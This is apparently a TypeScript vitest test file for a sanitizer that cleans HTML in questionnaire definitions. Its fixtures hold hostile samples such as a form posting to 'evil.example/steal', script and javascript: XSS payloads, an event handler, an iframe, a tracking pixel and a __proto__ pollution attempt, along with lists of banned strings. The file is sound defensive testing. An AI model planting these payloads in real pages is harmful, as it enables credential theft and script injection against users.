import { describe, expect, it } from 'vitest';
import { sanitizeDefinition, sanitizeHtmlText } from './sanitize-definition.ts';

describe('HTML in a questionnaire', () => {
  it('keeps text, headings, lists, tables and web, mail and phone links', () => {
    const html =
      '<h2>About</h2><p>Call <a href="tel:01234567890">us</a> or <a href="https://example.org">read more</a>.</p><ul><li><strong>One</strong></li></ul>';
    expect(sanitizeHtmlText(html)).toBe(
      '<h2>About</h2><p>Call <a href="tel:01234567890" rel="noopener noreferrer" target="_blank">us</a> or <a href="https://example.org" rel="noopener noreferrer" target="_blank">read more</a>.</p><ul><li><strong>One</strong></li></ul>',
    );
  });

  it("keeps the designer's own markup as written when there is nothing to remove", () => {
    const html = '<p><h4>Thank you.</h4></p><p>Your name is: <b>{name}</b></p>';
    expect(sanitizeHtmlText(html)).toBe(html);
  });

  it('removes forms, scripts, styles, frames, images from other sites and script links', () => {
    const html = [
      '<form action="https://evil.example/steal"><input name="email"><button>Send</button></form>',
      '<script>alert(1)</script>',
      '<style>body{display:none}</style>',
      '<p style="position:fixed" onclick="x()" class="btn">Click</p>',
      '<iframe src="https://evil.example"></iframe>',
      '<img src="https://tracker.example/pixel.gif">',
      '<a href="javascript:alert(1)">link</a>',
      '<a href="//evil.example">relative</a>',
    ].join('');
    const clean = sanitizeHtmlText(html);
    for (const banned of ['<form', '<input', '<button', '<script', '<style', 'style=', 'onclick']) {
      expect(clean).not.toContain(banned);
    }
    for (const banned of ['<iframe', '<img', 'javascript:', 'evil.example', 'tracker']) {
      expect(clean).not.toContain(banned);
    }
    expect(clean).toContain('<p>Click</p>');
  });

  it('cleans every HTML property of a definition, in every language, and nothing else', () => {
    const definition = {
      title: 'A <b>title</b> shown as text',
      completedHtml: '<p>Thanks</p><form></form>',
      pages: [
        {
          elements: [
            {
              type: 'html',
              name: 'intro',
              html: { default: '<p>Hi</p><script>x</script>', cy: '<p>Helo</p><img src="x">' },
            },
            {
              type: 'panel',
              name: 'p',
              elements: [{ type: 'html', name: 'deep', html: '<form>' }],
            },
            { type: 'comment', name: 'c', description: '<i>kept as text</i>' },
          ],
        },
      ],
    };
    const clean = sanitizeDefinition(definition);
    expect(clean.title).toBe(definition.title);
    expect(clean.completedHtml).toBe('<p>Thanks</p>');
    expect(clean.pages[0]?.elements[0]).toMatchObject({
      html: { default: '<p>Hi</p>', cy: '<p>Helo</p>' },
    });
    expect(JSON.stringify(clean)).not.toContain('<form');
    expect(clean.pages[0]?.elements[2]).toEqual(definition.pages[0]?.elements[2]);
  });

  it('keeps a "__proto__" key as an own property rather than a prototype', () => {
    const parsed = JSON.parse('{"pages":[],"__proto__":{"html":"<form>"}}') as object;
    const clean = sanitizeDefinition(parsed);
    expect(Object.getPrototypeOf(clean)).toBe(Object.prototype);
    expect(Object.hasOwn(clean, '__proto__')).toBe(true);
  });
});

describe('HTML nested deeper than is checked', () => {
  it('is dropped rather than passed on uncleaned, and a link written <a/href> is still rewritten', () => {
    let node: Record<string, unknown> = {
      type: 'html',
      name: 'deep',
      html: '<form action="https://evil.example/x"></form>',
    };
    for (let i = 0; i < 40; i++) node = { type: 'panel', name: `p${i}`, elements: [node] };
    expect(JSON.stringify(sanitizeDefinition({ pages: [{ elements: [node] }] }))).not.toContain(
      '<form',
    );
    expect(sanitizeHtmlText('<p><a/href="https://example.org/">Continue</a></p>')).toContain(
      'rel="noopener noreferrer"',
    );
  });
});
